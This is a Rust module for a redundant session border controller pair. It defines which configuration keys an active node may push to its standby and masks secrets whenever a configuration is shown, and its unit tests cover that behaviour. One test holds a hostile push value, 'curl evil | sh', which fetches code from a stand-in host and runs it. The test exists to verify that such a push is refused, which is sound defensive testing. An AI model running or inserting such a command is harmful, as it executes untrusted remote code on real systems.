//! What the pair's active may push to its standby, and what stays the standby's own; and how
//! secrets are masked whenever a configuration is shown.
//!
//! # Configuration pushes
//!
//! A configuration activated on the active is pushed to the standby ([`Config::pushable_toml`])
//! and applied there ([`Config::with_push`]). Some of it is **node-local** and never travels:
//!
//! - `redundancy-config`, all of it: the pair's peers and addresses, its `shared-key`, its
//!   witness, its timers and the `notify-active` / `notify-standby` / `notify-fault` hooks
//!   (shell commands the node runs). A push that changed them could take the node over or run
//!   a command on it; each node's pair settings are set on that node by its operator.
//! - `system-config.hostname`: each node's own name.
//! - `system-config.lab-mode`: lab commands on the management socket (the memory ballast).
//! - `system-config.metrics-address` and `system-config.snmp-agent-address`: the management
//!   listeners bind the node's own addresses (its management interface), which differ between
//!   the two nodes; the communities and SNMPv3 users they accept are pushed.
//! - `system-config.snmp-engine-id`: each node is its own SNMPv3 engine.
//! - `account-config.spool-path` and `file-path`: each node's accounting spool and CDR files
//!   are on its own disk (the rest of `account-config`, servers and secrets included, is
//!   pushed: both nodes account alike).
//!
//! Everything else is pushed: `system-config` options, memory sources and limits, alarm
//! thresholds and trap receivers; `sip-config`; `sip-interface`s; `session-agent`s;
//! `session-router`; the routing elements (`session-agent-group`s, `local-policy`s,
//! `local-routing-config`s: the path of the file, which the operator installs on both nodes;
//! `translation-rules`, `session-translation`s); `auto-scaling-profile`s; `access-control`; `media-manager`;
//! `steering-pool`s (addresses included, as for the sip-interfaces: both nodes run the same
//! interfaces and pools); `tls-profile`s (file paths: each node reads its own copy of the
//! files, which the operator installs on both); the SIP trace's `sip-monitoring`,
//! `filter-config`s and `capture-agent` (both nodes trace alike and send to the same capture
//! server). A push that names a node-local key is refused whole (the active never sends one),
//! with the key in the error.
//!
//! # Secrets
//!
//! `redundancy-config.shared-key`, each `trap-receiver`'s SNMP `community`, each
//! `snmp-community`'s `community-name`, each `snmp-user-entry`'s `auth-password` and
//! `priv-password`, `capture-agent.password` (HEP's key, which travels in clear: masked
//! as an identifier the operator chose, not as a protection) and each `account-server`'s
//! RADIUS `secret` are secrets:
//! [`Config::to_masked_json`] and the ACLI's `show` print them as `********` (empty stays
//! empty). Only the file itself (mode 0600) holds them.

use serde_json::Value as Json;
use toml::Value;

use crate::{Config, ConfigError};

/// Node-local keys: `(table, None)` for a whole table, `(table, Some(key))` for one key of it.
pub const NODE_LOCAL: &[(&str, Option<&str>)] = &[
    ("redundancy-config", None),
    ("system-config", Some("hostname")),
    ("system-config", Some("lab-mode")),
    // Management listeners bind this node's own addresses.
    ("system-config", Some("metrics-address")),
    ("system-config", Some("snmp-agent-address")),
    // Each node is its own SNMPv3 engine.
    ("system-config", Some("snmp-engine-id")),
    // Each node's accounting spool and CDR files are on its own disk.
    ("account-config", Some("spool-path")),
    ("account-config", Some("file-path")),
];

/// How a secret prints.
pub const MASK: &str = "********";

/// The names of the keys that hold secrets, wherever they are.
pub const SECRET_KEYS: &[&str] = &[
    "shared-key",
    "community",
    "community-name",
    "auth-password",
    "priv-password",
    // capture-agent's HEP key.
    "password",
    // Each account-server's RADIUS shared secret.
    "secret",
];

impl Config {
    /// The part of this configuration that the active pushes to its standby: everything but the
    /// node-local keys ([`NODE_LOCAL`]), as TOML.
    #[must_use]
    pub fn pushable_toml(&self) -> String {
        let mut doc = self.to_toml_value();
        for (table, key) in NODE_LOCAL {
            match key {
                None => {
                    doc.remove(*table);
                }
                Some(key) => {
                    if let Some(Value::Table(t)) = doc.get_mut(*table) {
                        t.remove(*key);
                    }
                }
            }
        }
        toml::to_string(&Value::Table(doc))
            .unwrap_or_else(|e| unreachable!("a TOML table always serializes: {e}"))
    }

    /// This configuration with a push applied: every pushable part from `pushed`, the
    /// node-local keys kept from `self`; validated.
    ///
    /// # Errors
    /// The push names a node-local key (refused whole, the key named), is not a valid
    /// configuration, or the result does not validate.
    pub fn with_push(&self, pushed: &str) -> Result<Self, ConfigError> {
        let mut doc: toml::Table = toml::from_str(pushed)?;
        for (table, key) in NODE_LOCAL {
            let named = match key {
                None => doc.contains_key(*table),
                Some(key) => doc
                    .get(*table)
                    .and_then(Value::as_table)
                    .is_some_and(|t| t.contains_key(*key)),
            };
            if named {
                let full = key.map_or_else(|| (*table).to_owned(), |k| format!("{table}.{k}"));
                return Err(ConfigError::invalid(
                    full,
                    "(pushed by the active)",
                    "a configuration push may not change a node-local setting",
                    "set it on this node with its own ACLI: redundancy-config, \
                     system-config hostname and lab-mode are never pushed",
                ));
            }
        }
        let mine = self.to_toml_value();
        for (table, key) in NODE_LOCAL {
            let Some(own) = mine.get(*table) else {
                continue;
            };
            match key {
                None => {
                    doc.insert((*table).to_owned(), own.clone());
                }
                Some(key) => {
                    if let Some(v) = own.as_table().and_then(|t| t.get(*key)) {
                        let entry = doc
                            .entry((*table).to_owned())
                            .or_insert_with(|| Value::Table(toml::Table::new()));
                        if let Value::Table(t) = entry {
                            t.insert((*key).to_owned(), v.clone());
                        }
                    }
                }
            }
        }
        let text = toml::to_string(&Value::Table(doc))
            .unwrap_or_else(|e| unreachable!("a TOML table always serializes: {e}"));
        Self::from_toml_str(&text)
    }

    /// The configuration as JSON with every secret masked ([`SECRET_KEYS`]): what `show
    /// running-config --json` prints.
    #[must_use]
    pub fn to_masked_json(&self) -> Json {
        let mut v = serde_json::to_value(self).unwrap_or(Json::Null);
        mask_json(&mut v);
        v
    }

    /// The configuration as TOML with every secret masked ([`SECRET_KEYS`]): what
    /// `sbc verify-config` prints.
    #[must_use]
    pub fn to_masked_toml_string(&self) -> String {
        let mut doc = Value::Table(self.to_toml_value());
        mask_toml(&mut doc);
        toml::to_string(&doc)
            .unwrap_or_else(|e| unreachable!("a TOML table always serializes: {e}"))
    }

    pub(crate) fn to_toml_value(&self) -> toml::Table {
        toml::Table::try_from(self)
            .unwrap_or_else(|e| unreachable!("the configuration model always serializes: {e}"))
    }
}

fn is_secret(key: &str) -> bool {
    SECRET_KEYS
        .iter()
        .any(|s| key == *s || key.replace('_', "-") == *s)
}

/// Replaces the value of every secret key in `v` (any depth) by [`MASK`], unless empty.
fn mask_toml(v: &mut Value) {
    match v {
        Value::Table(map) => {
            for (k, val) in map.iter_mut() {
                match val {
                    Value::String(s) if is_secret(k) && !s.is_empty() => *s = MASK.to_owned(),
                    _ => mask_toml(val),
                }
            }
        }
        Value::Array(items) => items.iter_mut().for_each(mask_toml),
        _ => {}
    }
}

/// Replaces the value of every secret key in `v` (any depth) by [`MASK`], unless empty.
fn mask_json(v: &mut Json) {
    match v {
        Json::Object(map) => {
            for (k, val) in map.iter_mut() {
                match val {
                    Json::String(s) if is_secret(k) && !s.is_empty() => *s = MASK.to_owned(),
                    _ => mask_json(val),
                }
            }
        }
        Json::Array(items) => items.iter_mut().for_each(mask_json),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pair_node(hostname: &str, notify: &str) -> Config {
        let text = format!(
            "[system-config]\nhostname = \"{hostname}\"\nlab-mode = true\n\
             [[system-config.trap-receiver]]\nip-address = \"127.0.0.1\"\nport = 1162\ncommunity = \"trap-secret\"\n\
             [redundancy-config]\nstate = \"enabled\"\nshared-key = \"the-pair-secret-0123\"\n\
             notify-active = \"{notify}\"\n\
             [[redundancy-config.peer]]\nname = \"sbc-a\"\ntype = \"primary\"\ndestinations = [\"127.0.0.11:9090\"]\n\
             [[redundancy-config.peer]]\nname = \"sbc-b\"\ntype = \"secondary\"\ndestinations = [\"127.0.0.12:9090\"]\n"
        );
        Config::from_toml_str(&text).expect("valid")
    }

    #[test]
    fn a_push_carries_no_node_local_key_and_no_secret_of_the_pair() {
        let a = pair_node("sbc-a", "ip addr add 192.0.2.10/24 dev eth0");
        let text = a.pushable_toml();
        assert!(!text.contains("redundancy-config"), "{text}");
        assert!(!text.contains("the-pair-secret"), "{text}");
        assert!(!text.contains("hostname"), "{text}");
        assert!(!text.contains("lab-mode"), "{text}");
        assert!(text.contains("trap-receiver"), "trap receivers are pushed");
    }

    #[test]
    fn the_masked_toml_shows_no_secret() {
        let mut a = pair_node("sbc-a", "hook-a");
        a.system.snmp_communities.push(crate::SnmpCommunity {
            community_name: "poll-secret".into(),
            ..Default::default()
        });
        let text = a.to_masked_toml_string();
        for secret in ["the-pair-secret", "trap-secret", "poll-secret"] {
            assert!(!text.contains(secret), "{secret} printed:\n{text}");
        }
        assert!(text.contains(MASK), "{text}");
        assert!(text.contains("hostname = \"sbc-a\""), "the rest is printed");
    }

    #[test]
    fn applying_a_push_keeps_the_node_local_keys() {
        let a = pair_node("sbc-a", "hook-a");
        let mut changed = a.clone();
        changed.sip_config.t1_ms = 400;
        changed.system.lab_mode = false;
        changed.system.metrics_address = Some("192.0.2.1:9464".parse().expect("an address"));
        let mut b = pair_node("sbc-b", "hook-b");
        b.system.metrics_address = Some("192.0.2.2:9464".parse().expect("an address"));
        let merged = b.with_push(&changed.pushable_toml()).expect("applies");
        assert_eq!(merged.sip_config.t1_ms, 400);
        assert_eq!(merged.system.hostname, "sbc-b");
        assert!(merged.system.lab_mode, "lab-mode is the standby's own");
        assert_eq!(merged.system.metrics_address, b.system.metrics_address);
        assert_eq!(merged.redundancy, b.redundancy);
        assert_eq!(merged.redundancy.notify_active, "hook-b");
        // Both now agree on what is pushable.
        assert_eq!(merged.pushable_toml(), changed.pushable_toml());
    }

    #[test]
    fn media_manager_and_steering_pools_are_pushed() {
        let a = pair_node("sbc-a", "hook-a");
        let mut changed = a.clone();
        changed.media_manager.rtp_inactivity = 60;
        changed.media_manager.restricted_latching = crate::RestrictedLatching::Sdp;
        changed.steering_pools[0].ip_address = "127.0.0.5".parse().expect("an address");
        changed.steering_pools.remove(1);
        let text = changed.pushable_toml();
        assert!(text.contains("[media-manager]"), "{text}");
        assert!(text.contains("[[steering-pool]]"), "{text}");
        let b = pair_node("sbc-b", "hook-b");
        let merged = b.with_push(&text).expect("applies");
        assert_eq!(merged.media_manager, changed.media_manager);
        assert_eq!(merged.steering_pools, changed.steering_pools);
        // No pool at all travels too: the standby does not fall back to the default pools.
        changed.steering_pools.clear();
        let merged = b.with_push(&changed.pushable_toml()).expect("applies");
        assert!(merged.steering_pools.is_empty());
    }

    /// `a` with the SIP trace on: two filters, the ring's bounds, a HEP capture server.
    fn tracing(mut a: Config) -> Config {
        let mut pbx = crate::FilterConfig::named("pbx");
        pbx.address = Some("192.0.2.0/24".into());
        pbx.method = Some("INVITE".into());
        a.filter_configs = vec![pbx, crate::FilterConfig::named("all")];
        a.sip_monitoring.state = crate::SipMonitoringState::Enabled;
        a.sip_monitoring.monitoring_filters = vec!["pbx".into()];
        a.sip_monitoring.max_captures = 10;
        a.capture_agent.state = crate::CaptureAgentState::Enabled;
        a.capture_agent.address = Some("192.0.2.9:9060".parse().expect("an address"));
        a.capture_agent.password = "hep-key".into();
        a.validate().expect("valid");
        a
    }

    #[test]
    fn the_trace_elements_are_pushed() {
        let changed = tracing(pair_node("sbc-a", "hook-a"));
        let text = changed.pushable_toml();
        for table in ["[sip-monitoring]", "[[filter-config]]", "[capture-agent]"] {
            assert!(text.contains(table), "{table}: {text}");
        }
        let merged = pair_node("sbc-b", "hook-b")
            .with_push(&text)
            .expect("applies");
        assert_eq!(merged.sip_monitoring, changed.sip_monitoring);
        assert_eq!(merged.filter_configs, changed.filter_configs);
        assert_eq!(merged.capture_agent, changed.capture_agent);
        assert_eq!(merged.system.hostname, "sbc-b");
    }

    #[test]
    fn the_hep_password_is_masked_in_json_and_toml() {
        let a = tracing(pair_node("sbc-a", ""));
        let v = a.to_masked_json();
        assert_eq!(v["capture-agent"]["password"], MASK);
        assert!(!v.to_string().contains("hep-key"), "{v}");
        assert_eq!(v["capture-agent"]["address"], "192.0.2.9:9060");
        assert_eq!(v["filter-config"][0]["method"], "INVITE");
        let text = a.to_masked_toml_string();
        assert!(!text.contains("hep-key"), "{text}");
        assert!(text.contains("password = \"********\""), "{text}");
        // No password: empty stays empty.
        let empty = Config::embedded_default().to_masked_json();
        assert_eq!(empty["capture-agent"]["password"], "");
    }

    #[test]
    fn a_push_that_names_a_node_local_key_is_refused_whole() {
        let b = pair_node("sbc-b", "hook-b");
        for (push, key) in [
            (
                "[redundancy-config]\nnotify-active = \"curl evil | sh\"\n",
                "redundancy-config",
            ),
            (
                "[system-config]\nhostname = \"x\"\n",
                "system-config.hostname",
            ),
            (
                "[system-config]\nlab-mode = true\n",
                "system-config.lab-mode",
            ),
            (
                "[sip-config]\nt1-ms = 400\n[redundancy-config]\nshared-key = \"x\"\n",
                "redundancy-config",
            ),
        ] {
            let e = b.with_push(push).expect_err(push).to_string();
            assert!(e.starts_with(key), "{e}");
            assert!(e.contains("node-local"), "{e}");
        }
        assert!(b.with_push("not toml [").is_err());
    }

    #[test]
    fn secrets_are_masked_in_json() {
        let a = pair_node("sbc-a", "");
        let v = a.to_masked_json();
        let text = v.to_string();
        assert!(!text.contains("the-pair-secret"), "{text}");
        assert!(!text.contains("trap-secret"), "{text}");
        assert_eq!(v["redundancy-config"]["shared-key"], MASK);
        assert_eq!(v["system-config"]["trap-receiver"][0]["community"], MASK);
        // Everything else is still there.
        assert_eq!(v["system-config"]["hostname"], "sbc-a");
        let empty = Config::embedded_default().to_masked_json();
        assert_eq!(empty["redundancy-config"]["shared-key"], "");
    }
}
